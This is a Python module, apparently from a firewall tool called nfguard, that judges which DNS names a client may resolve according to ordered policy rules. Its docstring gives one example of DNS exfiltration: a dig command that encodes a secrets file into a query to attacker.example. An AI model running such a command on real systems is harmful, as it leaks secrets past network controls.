"""Which names a client may resolve: the decision on a DNS query, pure and root-free.

A query name is data leaving the host: the resolver recurses to whoever serves the zone,
so `dig $(base32 < secrets).attacker.example` delivers the secret without a single
connection. A client may therefore resolve exactly the names its policies could let it
reach, decided like a flow: its policies in order, the first rule (in rule order) that
covers the name decides, allow lets the query out, deny refuses it. Ports and proto do
not matter. A rule covers a name when

- one of its `to` name patterns matches it,
- one of its `resolve` patterns matches it (names resolved, never connected to: SRV, TXT
  and MX lookups, service discovery; such a pattern matches no flow),
- it has no `to` at all (any destination covers every name), or
- the name is a reverse name (PTR under in-addr.arpa / ip6.arpa) of one address and the
  address is inside one of its `to` networks.

A name only a CIDR rule covers is not resolvable, and neither is a reverse name of an
address no rule names (unless a pattern names it: `resolve = ["**.in-addr.arpa"]`).
With no rule covering the name, engine.default decides. `queries = "any"` ([names], or
a client's own key) lets every query out unjudged, as before issue 24.

The per-policy index is the compiled policy's own (its `to` names, networks and rules
without `to`) plus one name index of `resolve` patterns, built the first time a query
meets the policy: the work per query grows with the labels of the name, not the rules.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from enum import StrEnum
from typing import NamedTuple

from nfguard.lru import Memo
from nfguard.policy.match import CompiledPolicy, CompiledPolicySet, NameIndex
from nfguard.policy.model import ALLOW, DENY, Client, Rule
from nfguard.policy.patterns import normalize_name


class Queries(StrEnum):
    """[names] queries, and a client's `queries`: whether the policy judges query names."""

    POLICY = "policy"  # a client may resolve the names its rules cover
    ANY = "any"  # every query passes (the behaviour before issue 24)


QUERIES = tuple(Queries)


class QueryReason(StrEnum):
    """event.reason of a query's decision (the flow reasons' words where they mean the same)."""

    RULE_MATCH = "rule_match"  # a rule covering the name decided (allow or deny)
    NAME_NOT_ALLOWED = "name_not_allowed"  # no rule covers it and engine.default is deny
    NO_RULE_MATCH = "no_rule_match"  # no rule covers it and engine.default is allow
    NO_CLIENT_MATCH = "no_client_match"  # no client matched the sender: engine.default
    QUERIES_ANY = "queries_any"  # queries = "any": not judged


class QueryEvidence(StrEnum):
    """What covered the name (nfguard.evidence of a query's event)."""

    NAME = "name"  # a `to` name pattern
    RESOLVE = "resolve"  # a `resolve` name pattern
    ANY = "any"  # a rule without `to`
    CIDR = "cidr"  # a reverse name whose address is inside a `to` network
    DEFAULT = "default"  # nothing did: engine.default or queries = "any"


class QueryMatch(NamedTuple):
    rule: Rule
    evidence: QueryEvidence
    position: int  # of the rule in its policy


class QueryDecision(NamedTuple):
    action: str  # "allow" | "deny": what the policy says of the query
    reason: QueryReason
    evidence: QueryEvidence
    name: str  # the question name, normalised ("" is the root)
    client: str | None = None
    rule: str | None = None  # "policy/rule"


NO_RULE = 1 << 30  # a position past every rule
QUERY_MEMO_MAX = 1 << 16  # (policies, name) answers remembered per judge
_V4_REVERSE = ".in-addr.arpa"
_V6_REVERSE = ".ip6.arpa"
_HEX = frozenset("0123456789abcdef")


def reverse_address(name: str) -> tuple[int, int] | None:
    """(IP version, address as an integer) of a normalised reverse name of one whole
    address ("4.3.2.1.in-addr.arpa", 32 nibbles under ip6.arpa), else None."""
    if name.endswith(_V4_REVERSE):
        octets = name[: -len(_V4_REVERSE)].split(".")
        if len(octets) != 4 or not all(
                o.isascii() and o.isdigit() and int(o) <= 255 and (o == "0" or o[0] != "0")
                for o in octets):
            return None
        return 4, int.from_bytes(bytes(int(o) for o in reversed(octets)), "big")
    if name.endswith(_V6_REVERSE):
        nibbles = name[: -len(_V6_REVERSE)].split(".")
        if len(nibbles) != 32 or not all(len(x) == 1 and x in _HEX for x in nibbles):
            return None
        return 6, int("".join(reversed(nibbles)), 16)
    return None


class _QueryIndex:
    """One compiled policy as a query sees it: its own indexes and its `resolve` names."""

    __slots__ = ("any_name", "compiled", "resolve")

    def __init__(self, compiled: CompiledPolicy) -> None:
        self.compiled = compiled
        self.resolve = NameIndex()
        for position, rule in enumerate(compiled.rules):
            for pattern in rule.resolve:
                self.resolve.add(pattern, position)
        self.any_name = compiled.any_destination[0] if compiled.any_destination else NO_RULE

    def first(self, name: str, address: tuple[int, int] | None) -> QueryMatch | None:
        best, evidence = self.any_name, QueryEvidence.ANY
        if name:  # the root: no pattern names it (every pattern has a label)
            for position in self.compiled.names.lookup(name):
                if position < best:
                    best, evidence = position, QueryEvidence.NAME
            for position in self.resolve.lookup(name):
                if position < best:
                    best, evidence = position, QueryEvidence.RESOLVE
        if address is not None:
            version, value = address
            index = self.compiled.v4 if version == 4 else self.compiled.v6
            for mask, table in index.masks:
                positions = table.get(value & mask)  # in rule order
                if positions and positions[0] < best:
                    best, evidence = positions[0], QueryEvidence.CIDR
        if best == NO_RULE:
            return None
        return QueryMatch(self.compiled.rules[best], evidence, best)


class QueryJudge:
    """The decision on every query of one policy set; rebuilt with it on reload."""

    def __init__(self, policies: CompiledPolicySet, queries: str = Queries.POLICY,
                 default: str = DENY) -> None:
        self.policies = policies
        self.queries = queries  # [names] queries
        self.default = default  # engine.default
        self._indexes: dict[str, _QueryIndex] = {}
        self._memo: Memo[tuple[tuple[str, ...], str], QueryMatch | None] = Memo(QUERY_MEMO_MAX)

    def decide(self, client: Client | None, name: str) -> QueryDecision:
        """Whether `client` (None: no client matched the sender) may resolve `name`."""
        name = normalize_name(name)
        queries = (client.queries if client is not None else None) or self.queries
        client_name = client.name if client is not None else None
        if queries == Queries.ANY:
            return QueryDecision(ALLOW, QueryReason.QUERIES_ANY, QueryEvidence.DEFAULT, name,
                                 client_name)
        if client is None:
            return QueryDecision(self.default, QueryReason.NO_CLIENT_MATCH,
                                 QueryEvidence.DEFAULT, name)
        found = self.first_match(client.policies, name)
        if found is None:
            reason = (QueryReason.NO_RULE_MATCH if self.default == ALLOW
                      else QueryReason.NAME_NOT_ALLOWED)
            return QueryDecision(self.default, reason, QueryEvidence.DEFAULT, name,
                                 client_name)
        return QueryDecision(found.rule.action, QueryReason.RULE_MATCH, found.evidence, name,
                             client_name, found.rule.name)

    def first_match(self, policy_names: Iterable[str], name: str) -> QueryMatch | None:
        """The rule deciding a (normalised) name across policies tried in order;
        remembered per (policies, name)."""
        if not isinstance(policy_names, tuple):
            policy_names = tuple(policy_names)
        key = (policy_names, name)
        if key in self._memo:
            return self._memo[key]
        found = next((f for _policy, f in self.walk(policy_names, name) if f is not None),
                     None)
        return self._memo.put(key, found)

    def walk(self, policy_names: Iterable[str],
             name: str) -> Iterator[tuple[str, QueryMatch | None]]:
        """Each policy tried, in order, with the rule covering the name, up to the first
        policy that has one (`explain`'s trace)."""
        address = reverse_address(name)
        for policy in policy_names:
            index = self._indexes.get(policy)
            if index is None:
                index = self._indexes[policy] = _QueryIndex(self.policies.policies[policy])
            found = index.first(name, address)
            yield policy, found
            if found is not None:
                return
